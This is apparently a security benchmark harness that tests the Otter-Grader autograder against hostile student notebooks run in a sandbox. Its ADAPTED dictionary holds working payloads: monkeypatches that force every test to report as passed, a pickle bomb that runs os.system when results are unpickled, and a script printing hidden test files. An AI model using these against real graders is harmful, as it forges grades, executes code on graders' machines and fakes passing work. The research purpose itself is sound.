"""Otter-Grader as one runs it without Docker: a process for each submission (`otter run`)."""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any, Final

from tests.attacks.attack import Attack
from tests.benchmarks.others.cage import run_in_cage, workplace
from tests.benchmarks.others.stock import (
    HIDDEN,
    HONEST,
    LEAVING_AT_ONCE,
    POINTS,
    SETUP,
    VICTIM,
    VISIBLE,
    Seen,
    Words,
    before_all,
    code_cell,
    deserved,
    harm_in,
    notebook,
    reference,
    victims_source,
)

ENVIRONMENT: Final = Path(__file__).parents[3] / "build" / "otter"
PACKAGES: Final = ("otter-grader", "ipykernel")
SECONDS: Final = 120
SUBMISSIONS: Final = ("mallory", "zed")
# What judges here is Otter's code inside the learner's process; the verdict leaves it as a pickle.
ADAPTED: Final = {
    "leaves_the_process": LEAVING_AT_ONCE,
    "patch_check": """
import otter.test_files.ok_test as ok_test
from otter.test_files.abstract_test import TestCaseResult
def praise(self, global_environment):
    self.test_case_results = [TestCaseResult(case, None, True) for case in self.test_cases]
ok_test.OKTestFile.run = praise
""",
    "frames_with_verdicts": """
from otter.execute import Checker
def results(original=Checker.get_results):
    files = original()
    for file in files:
        for result in file.test_case_results:
            result.passed = True
    return files
Checker.get_results = results
""",
    "pickle_bomb": """
import atexit, glob, pickle
class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/n2r-unpickled",)
def replace_results():
    for path in glob.glob("/tmp/*.pkl"):
        open(path, "wb").write(pickle.dumps(Command()))
atexit.register(replace_results)
""",
    "expected_values": """
import glob
for path in glob.glob("tests/*.py") + glob.glob("../**/tests/*.py", recursive=True):
    print(open(path).read())
""",
}


class Otter:
    """The same assignment; every submission is graded by a command of its own."""

    adapted = ADAPTED

    def __init__(self, folder: Path) -> None:
        install()
        self.words = Words()
        self._folder = folder / "otter"
        tests = self._folder / "tests"
        tests.mkdir(parents=True)
        for name in POINTS:
            (tests / f"{name}.py").write_text(self._test(name))
        (self._folder / "otter_config.json").write_text('{"pdf": false}')
        subprocess.run(
            [str(ENVIRONMENT / "bin" / "otter"), "generate", "-t", "tests", "-o", "autograder.zip"],
            cwd=self._folder,
            env=environment(self._folder),
            check=True,
            capture_output=True,
        )

    def applies(self, attack: Attack) -> bool:
        """There is neither a gradebook nor metadata of nbgrader's."""
        return attack.family != "gradebook" and attack.name not in OF_NBGRADER

    def attack(self, attack: Attack) -> Seen:
        """Grade the attacker, and somebody honest after."""
        with workplace() as folder:
            place = folder / "class"
            place.mkdir()
            shutil.copy(self._folder / "autograder.zip", place)
            self._hand_in(place, "mallory", self._hostile(attack, folder))
            self._hand_in(place, "zed", self._solved(self.words.submission))
            observed = run_in_cage(folder, [ENVIRONMENT], self._plan(place))
            return self._seen(attack, folder, observed)

    def _plan(self, place: Path) -> dict[str, Any]:
        otter = [str(ENVIRONMENT / "bin" / "otter"), "run", "--no-logo", "-a", "autograder.zip"]
        known = {
            "repository": str(place),
            "class": str(place),
            "gradebook": str(place / "gradebook.db"),
            "submission": str(place / "zed" / "stock.ipynb"),
            "secret": str(place / "autograder.zip"),
        }
        return {
            "commands": [
                [*otter, "-o", str(place / student), str(place / student / "stock.ipynb")]
                for student in SUBMISSIONS
            ],
            "cwd": str(place),
            "environment": environment(place.parent) | {"SECRET": self.words.environment},
            "seconds": SECONDS,
            "known": known,
            "precious": [known["submission"], known["secret"]],
        }

    def _seen(self, attack: Attack, folder: Path, observed: dict[str, Any]) -> Seen:
        mine, theirs = (
            _scores(folder / "class" / student / "results.json") for student in SUBMISSIONS
        )
        text = _visible(folder / "class" / "mallory" / "results.json")
        with contextlib.suppress(OSError):
            text += (folder / "found").read_text(errors="replace")
        total = sum(theirs.values()) if theirs else None
        leaked = self.words.found_in(text)
        mark, beside = mine.get(VICTIM), mine.get(HONEST)
        return Seen(deserved(attack), mark, beside, total, leaked, harm_in(observed))

    def _hostile(self, attack: Attack, folder: Path) -> dict[str, Any] | bytes:
        if attack.family == "notebook":
            return attack.make(self._solved())
        made = self._solved()
        made["cells"][1]["source"] = victims_source(attack)
        sources = before_all(attack, str(folder / "known.json"), str(folder / "found"))
        sources.append(ADAPTED.get(attack.name, ""))
        own = [code_cell(text, f"own-{number}") for number, text in enumerate(sources)]
        made["cells"] = own + made["cells"]
        return made

    def _solved(self, word: str = "") -> dict[str, Any]:
        start = f"# {word}\n{SETUP}\nimport otter\ngrader = otter.Notebook()"
        cells = [code_cell(start, "setup")]
        for name in POINTS:
            found = {"nbgrader": {"grade_id": f"{name}-solution"}}  # by what attacks look for it
            cells.append(code_cell(reference(name), f"{name}-solution", found))
            cells.append(code_cell(f'grader.check("{name}")', name))
        return notebook(cells)

    def _test(self, name: str) -> str:
        hidden = HIDDEN[name].format(word=self.words.hidden)
        cases = [
            {"code": _as_doctest(VISIBLE[name]), "hidden": False, "locked": False},
            {"code": _as_doctest(hidden), "hidden": True, "locked": False},
        ]
        suite = {"type": "doctest", "scored": True, "setup": "", "teardown": "", "cases": cases}
        test = {"name": name, "points": [1, POINTS[name] - 1], "suites": [suite]}
        return f"OK_FORMAT = True\n\ntest = {test!r}\n"

    def _hand_in(self, folder: Path, student: str, made: dict[str, Any] | bytes) -> None:
        (folder / student).mkdir()
        data = made if isinstance(made, bytes) else json.dumps(made).encode()
        (folder / student / "stock.ipynb").write_bytes(data)


OF_NBGRADER: Final = (
    "deleted_cells",
    "duplicated_cells",
    "exchanged_ids",
    "flags_and_checksums",
    "gradebook",
    "more_points",
    "own_grade_cells",
)


def install() -> None:
    """Make Otter an environment of its own, once."""
    if (ENVIRONMENT / "bin" / "otter").exists():
        return
    subprocess.run([sys.executable, "-m", "venv", str(ENVIRONMENT)], check=True)
    pip = [str(ENVIRONMENT / "bin" / "python"), "-m", "pip", "install", "--quiet", *PACKAGES]
    subprocess.run(pip, check=True, stdout=sys.stderr)


def version() -> str:
    """The version of Otter that was attacked."""
    ask = "import importlib.metadata as m; print(m.version('otter-grader'))"
    command = [str(ENVIRONMENT / "bin" / "python"), "-c", ask]
    return subprocess.run(command, check=True, capture_output=True, text=True).stdout.strip()


def _as_doctest(source: str) -> str:
    lines = source.splitlines()
    marks = ["..." if line.startswith((" ", "\t")) else ">>>" for line in lines]
    return "\n".join(f"{mark} {line}" for mark, line in zip(marks, lines, strict=True)) + "\n"


def environment(home: Path) -> dict[str, str]:
    """What Otter's commands are started with."""
    return {
        "PATH": f"{ENVIRONMENT / 'bin'}{os.pathsep}/usr/bin:/bin",
        "HOME": str(home),
        "LANG": "C.UTF-8",
        "OPENBLAS_NUM_THREADS": "1",
    }


def _tests(path: Path) -> list[dict[str, Any]]:
    try:
        tests = json.loads(path.read_text())["tests"]
    except (OSError, ValueError, KeyError, TypeError):
        return []
    return [one for one in tests if isinstance(one, dict)]


def _scores(path: Path) -> dict[str, float]:
    return {one["name"]: one["score"] for one in _tests(path) if "score" in one}


def _visible(path: Path) -> str:
    """What the learner gets to see of the results."""
    return json.dumps([one for one in _tests(path) if one.get("visibility") == "visible"])
